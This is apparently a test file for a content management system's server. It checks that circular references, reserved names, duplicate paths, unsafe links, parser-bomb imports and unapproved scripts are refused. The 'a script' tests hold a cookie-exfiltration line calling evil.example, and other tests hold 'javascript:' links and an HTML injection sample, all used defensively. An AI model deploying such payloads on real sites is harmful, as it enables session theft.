import type { AccountView } from '@/contract/contract'
import type { Edit } from '@/core/document'
import type { DocumentId, GoalId, NodeId, VersionId } from '@/core/ids'
import type { Database } from '../database/connect'
import { goLive } from '../database/go-live'
import { listDocumentsOfKind, publishBody, readPublished } from '../stores/documents'
import { newestReleaseNumber, readRelease } from '../stores/releases'
import { act, administrator, attempt, donePage, editor, freshDatabase, publisher, testPage } from '../test-database'

let db: Database
beforeEach(async () => {
  db = await freshDatabase()
})
afterEach(() => db.destroy())

const set = (node: string, prop: string, value: string | readonly string[]): Edit => ({
  kind: 'set',
  node: node as NodeId,
  prop,
  value: value as string,
})
const lockOf = async (document: DocumentId) => (await act(db, editor, 'document.open', { document })).lock
const edit = async (document: DocumentId, edits: readonly Edit[], who: AccountView = editor) =>
  attempt(db, who, 'document.edit', { document, base: await lockOf(document), edits: [...edits] })
const publish = async (document: DocumentId) =>
  attempt(db, publisher, 'document.publish', { document, lock: await lockOf(document), note: '' })
const faultOf = (answer: { body: unknown }) => (answer.body as { fault?: string }).fault ?? ''
const released = async () => (await readRelease(db, (await newestReleaseNumber(db)) ?? 0))?.release

/** A shared component with columns, as only what stands in one can hold another. */
async function sharing(
  title: string,
): Promise<{ id: DocumentId; show: (other: DocumentId) => Promise<Awaited<ReturnType<typeof edit>>>; place: NodeId }> {
  const { id } = await act(db, editor, 'document.create', { kind: 'shared', title })
  const { document } = await act(db, editor, 'document.open', { document: id })
  const name = (part: string) => `${id}-${part}`.slice(-40) as NodeId
  const tree = {
    root: name('cs'),
    nodes: {
      [name('cs')]: { type: 'columns', props: {}, children: [name('c')] },
      [name('c')]: { type: 'column', props: {}, children: [name('p')] },
      [name('p')]: { type: 'shared', props: { shared: '' }, children: [] },
    },
  }
  await act(db, editor, 'document.edit', {
    document: id,
    base: 0,
    edits: [{ kind: 'insert', parent: document.root, after: null, tree }],
  })
  return { id, place: name('p'), show: (other) => edit(id, [set(name('p'), 'shared', other)]) }
}

describe('shared components that show each other', () => {
  test('are refused with the way round: itself, one by way of another, and by what a place sets', async () => {
    const [a, b] = [await sharing('Hours'), await sharing('Prices')]
    expect(faultOf(await a.show(a.id))).toContain('“Hours” shows “Hours”')
    expect((await a.show(b.id)).status).toBe(200)
    const back = await b.show(a.id)
    expect([back.status, faultOf(back)]).toEqual([400, expect.stringContaining('“Prices” shows “Hours” shows “Prices”')])
    const override = `${b.place} shared "${a.id}"`
    expect((await edit(a.id, [set(a.place, 'overrides', [override])])).status).toBe(400)
  })

  test('are refused also where the circle is closed by what is published, or by a version', async () => {
    const [a, b] = [await sharing('Hours'), await sharing('Prices')]
    await a.show(b.id)
    await publish(a.id)
    await a.show('' as DocumentId)
    expect((await b.show(a.id)).status).toBe(400)
    const version = await act(db, editor, 'version.create', { document: b.id, node: b.place, manner: 'rule', from: null })
    const save = { id: version.id, lock: version.lock, edits: [set(b.place, 'shared', a.id)] }
    expect((await attempt(db, editor, 'version.save', save)).status).toBe(400)
  })
})

describe('goals that are made of each other', () => {
  const anyOf = (name: string, goals: readonly string[]) => ({
    name,
    wiring: { kind: 'anyOf' as const, goals: goals as GoalId[] },
  })

  test('are refused, also when each is saved at the same moment, or both come in a file', async () => {
    const plain = await act(db, editor, 'goal.create', { name: 'Done', wiring: { kind: 'page', document: donePage.id } })
    const other = await act(db, editor, 'goal.create', { name: 'Front', wiring: { kind: 'page', document: testPage.id } })
    const a = await act(db, editor, 'goal.create', anyOf('A', [plain.id, other.id]))
    const b = await act(db, editor, 'goal.create', anyOf('B', [other.id, plain.id]))
    const into = (goal: typeof a, part: typeof a) =>
      attempt(db, editor, 'goal.save', { ...goal, lock: 0, wiring: { kind: 'anyOf', goals: [plain.id, part.id] } })
    const statuses = (await Promise.all([into(a, b), into(b, a)])).map(({ status }) => status)
    expect(statuses.sort()).toEqual([200, 400])
    const round = [anyOf('X', ['y', plain.id]), anyOf('Y', ['x', plain.id])].map((goal) => ({
      id: goal.name.toLowerCase(),
      ...goal,
    }))
    const { test } = await act(db, editor, 'test.create', { parts: [{ document: testPage.id, node: 'front-title' as NodeId }] })
    const { text } = await act(db, editor, 'format.test', { test })
    const file = JSON.stringify({ ...(JSON.parse(text) as object), goals: round })
    expect((await attempt(db, editor, 'format.take', { as: 'json', text: file })).status).toBe(400)
  })
})

describe('names that every object has', () => {
  test.each(['constructor'])('no component is called %s, in an edit, a place or a version', async (name) => {
    const tree = { root: name as NodeId, nodes: { [name]: { type: 'heading', props: {}, children: [] } } }
    const insert: Edit = { kind: 'insert', parent: 'front-section' as NodeId, after: null, tree }
    expect((await edit(testPage.id, [insert])).status).toBe(400)
    expect((await edit(testPage.id, [set('front-title', name, 'x')])).status).toBe(400)
    expect((await edit(testPage.id, [set(name, 'words', 'x')])).status).toBe(400)
  })

  test.each(['toString', 'constructor', '__proto__', 'hasOwnProperty'])('no action is called %s', async (name) => {
    expect((await attempt(db, editor, name as never, {} as never)).status).toBe(404)
  })
})

describe('addresses and ways', () => {
  test('two pages are never published at one address, whatever their drafts say, also at once', async () => {
    await edit(testPage.id, [set('front-root', 'path', '/moved')])
    await edit(donePage.id, [set('done-root', 'path', '/')])
    const taken = await publish(donePage.id)
    expect([taken.status, faultOf(taken)]).toEqual([400, expect.stringContaining('“Front” is published at /')])
    expect((await publish(testPage.id)).status).toBe(200)
    expect((await publish(donePage.id)).status).toBe(200)
    const paths = [...(await readPublished(db, 'all')).values()].map((page) => page.nodes[page.root]?.props.path)
    expect(new Set(paths).size).toBe(paths.length)
  })

  test('the database itself refuses a second page at an address', async () => {
    const at = db('documents').whereIn('id', [testPage.id, donePage.id]).update({ published_path: '/same' })
    await expect(at).rejects.toMatchObject({ errno: 1062 })
  })

  test('pages that send their visitors round in a circle are not published, a page that leads to itself neither', async () => {
    await edit(testPage.id, [set('front-root', 'route', `page:${donePage.id}`)])
    expect((await publish(testPage.id)).status).toBe(200)
    await edit(donePage.id, [set('done-root', 'route', `page:${testPage.id}`)])
    const circle = await publish(donePage.id)
    expect([circle.status, faultOf(circle)]).toEqual([422, expect.stringContaining('round in a circle')])
    await edit(donePage.id, [set('done-root', 'route', `page:${donePage.id}`)])
    expect((await publish(donePage.id)).status).toBe(422)
    expect((await released())?.documents).toHaveLength(2)
  })

  test.each([
    ['https://例え.example/', 'https://xn--r8jz45g.example/'],
    ['https://shop.example/a b', 'https://shop.example/a%20b'],
    ['https://shop.example/\n/x', 'https://shop.example//x'],
  ])('a link to %j is kept as it can be followed', async (typed, kept) => {
    await edit(testPage.id, [set('front-button', 'link', typed)])
    const { document } = await act(db, editor, 'document.open', { document: testPage.id })
    expect(document.nodes['front-button']?.props.link).toBe(kept)
  })

  test.each(['https://', 'http://[', 'javascript:alert(1)', '//evil.example', 'page:'])('%j is no link', async (typed) => {
    expect((await edit(testPage.id, [set('front-button', 'link', typed)])).status).toBe(400)
  })
})

describe('what cannot be read back is not kept', () => {
  const outline = (entries: number) =>
    `<opml version="2.0"><head><title>Many</title></head><body>${'<outline text="x"/>'.repeat(entries)}</body></opml>`

  test.each([
    ['a menu of 501 entries', 'opml', outline(501)],
    ['a page of 600 headings', 'html', '<h2>x</h2>'.repeat(600)],
    ['a page of 3,500 headings', 'html', '<section><h2>x</h2></section>'.repeat(3500)],
    ['1.4 MB of paragraphs', 'html', '<p>'.repeat(460_000)],
    ['elements 100,000 deep', 'html', '<div>'.repeat(50_000)],
    [
      'an outline 5,000 deep',
      'opml',
      `<opml version="2.0"><head/><body>${'<outline text="x">'.repeat(5000)}${'</outline>'.repeat(5000)}</body></opml>`,
    ],
    ['JSON that is nested without end', 'json', '['.repeat(700_000)],
  ] as const)('%s is refused in words, and in a moment', async (_, as, text) => {
    // What it costs, its thread included, and not how long it waits for a core that others want.
    const before = process.cpuUsage()
    const answer = await attempt(db, editor, 'format.take', { as, text })
    const { user, system } = process.cpuUsage(before)
    expect([answer.status, (user + system) / 1e6 < 5]).toEqual([400, true])
    expect(faultOf(answer)).not.toContain('went wrong')
    expect(await listDocumentsOfKind(db, 'menu')).toEqual([])
    expect((await attempt(db, editor, 'document.open', { document: testPage.id })).status).toBe(200)
  })

  test('a bad row that is there costs itself: lists, other pages and the release go on without it', async () => {
    const { id } = await act(db, editor, 'document.create', { kind: 'menu', title: 'Good' })
    await act(db, editor, 'document.create', { kind: 'menu', title: 'Bad' })
    await db('documents')
      .where({ title: 'Bad' })
      .update({ draft: JSON.stringify({ id: 'x', kind: 'menu', root: 'gone', nodes: {} }) })
    const [bad] = (await db('documents').where({ title: 'Bad' }).select('id')) as { id: DocumentId }[]
    expect((await attempt(db, editor, 'document.open', { document: testPage.id })).status).toBe(200)
    expect((await listDocumentsOfKind(db, 'menu')).map((menu) => menu.id)).toEqual([id])
    const opened = await attempt(db, editor, 'document.open', { document: bad?.id ?? testPage.id })
    expect([opened.status, faultOf(opened)]).toEqual([422, expect.stringContaining('“Bad”')])
    expect((await publish(testPage.id)).status).toBe(200)
  })

  test('a version is judged by what it shows, rich text of what it puts in itself included', async () => {
    const made = await act(db, editor, 'version.create', {
      document: testPage.id,
      node: 'front-section' as NodeId,
      manner: 'chance',
      from: null,
    })
    const tree = { root: 'new' as NodeId, nodes: { new: { type: 'text', props: { words: '<p>x</p>' }, children: [] } } }
    const edits: Edit[] = [
      { kind: 'insert', parent: 'front-section' as NodeId, after: null, tree },
      set('new', 'words', '<p onclick="x()">Hello<script>y()</script></p>'),
    ]
    const kept = await act(db, editor, 'version.save', { id: made.id, lock: made.lock, edits })
    expect(kept.edits[1]).toMatchObject({ value: '<p>Hello</p>' })
    const wrong = { id: made.id, lock: kept.lock, edits: [set('front-button', 'link', 'nowhere at all')] }
    expect((await attempt(db, editor, 'version.save', wrong)).status).toBe(400)
  })

  test('half a character is refused with its place', async () => {
    const answer = await edit(testPage.id, [set('front-title', 'words', 'half \ud83d')])
    expect([answer.status, faultOf(answer)]).toEqual([400, expect.stringContaining('edits › 0 › value')])
  })
})

describe('many at once', () => {
  test('twenty equal pages are one; twenty equal goals are one or none more; none is a fault of the server', async () => {
    const page = () => attempt(db, editor, 'document.create', { kind: 'page', title: 'Twin', path: '/twin' })
    const pages = (await Promise.all(Array.from({ length: 20 }, page))).map(({ status }) => status)
    expect([pages.filter((status) => status === 200).length, pages.some((status) => status >= 500)]).toEqual([1, false])
    const goal = () => attempt(db, editor, 'goal.create', { name: 'Twin', wiring: { kind: 'page', document: donePage.id } })
    expect((await Promise.all(Array.from({ length: 20 }, goal))).every(({ status }) => status < 500)).toBe(true)
    const publications = await Promise.all(Array.from({ length: 20 }, () => publish(testPage.id)))
    expect(publications.every(({ status }) => status < 500)).toBe(true)
  })
})

describe('a script', () => {
  const code = 'fetch("https://evil.example/" + document.cookie)'
  const script = (words: string) => ({
    root: 's' as NodeId,
    nodes: { s: { type: 'script', props: { code: words }, children: [] } },
  })
  const inserted: Edit = { kind: 'insert', parent: 'front-section' as NodeId, after: null, tree: script(code) }
  const file = (edits: readonly Edit[]) =>
    JSON.stringify({
      format: 'upbeat-sprig',
      version: 1,
      kind: 'variant',
      document: testPage.id,
      node: 'front-section',
      variant: { id: 'from-file', name: 'From a file', edits },
    })

  test.each([
    ['inserting', [inserted]],
    ['overriding at a place', [set('front-title', 'overrides', [`s code ${JSON.stringify(code)}`])]],
    ['setting what may be one later', [set('front-title', 'code', code)]],
    ['becoming one', [{ kind: 'replace', node: 'front-title' as NodeId, type: 'script', props: { code } } satisfies Edit]],
  ])('is refused to an editor by %s, on the page, in a version and from a file', async (_, edits) => {
    expect((await edit(testPage.id, edits)).status).toBe(403)
    const made = await act(db, editor, 'version.create', {
      document: testPage.id,
      node: 'front-section' as NodeId,
      manner: 'chance',
      from: null,
    })
    const saved = await attempt(db, editor, 'version.save', { id: made.id, lock: made.lock, edits })
    expect([400, 403]).toContain(saved.status)
    expect([400, 403]).toContain((await attempt(db, editor, 'format.take', { as: 'json', text: file(edits) })).status)
    expect((await released())?.approvedScripts).toEqual([])
  })

  test('of an administrator is known by its code: others may keep and move it, and change nothing in it', async () => {
    expect((await edit(testPage.id, [inserted], administrator)).status).toBe(200)
    expect(
      (
        await edit(testPage.id, [
          { kind: 'move', node: 's' as NodeId, parent: 'front-section' as NodeId, after: 'front-title' as NodeId },
        ])
      ).status,
    ).toBe(200)
    expect((await edit(testPage.id, [set('s', 'code', `${code};more()`)])).status).toBe(403)
    await publish(testPage.id)
    expect((await released())?.approvedScripts).toHaveLength(1)
  })

  test('that came past every check does not run, and is not copied', async () => {
    const body = {
      ...testPage,
      nodes: {
        ...testPage.nodes,
        'front-section': { ...testPage.nodes['front-section']!, children: ['s' as NodeId] },
        ...script(code).nodes,
      },
    }
    for (const gone of ['front-title', 'front-text', 'front-button']) delete (body.nodes as Record<string, unknown>)[gone]
    await goLive(db, (trx) => publishBody(trx, testPage.id, body, { note: '', author: 'x', lock: null }))
    expect((await released())?.approvedScripts ?? []).toEqual([])
    const made = await act(db, editor, 'version.create', {
      document: testPage.id,
      node: 'front-section' as NodeId,
      manner: 'chance',
      from: null,
    })
    await db('versions')
      .where({ id: made.id })
      .update({ edits: JSON.stringify([inserted]) })
    const copy = { document: testPage.id, node: 'front-section' as NodeId, manner: 'chance' as const, from: made.id as VersionId }
    expect((await attempt(db, editor, 'version.create', copy)).status).toBe(403)
  })
})
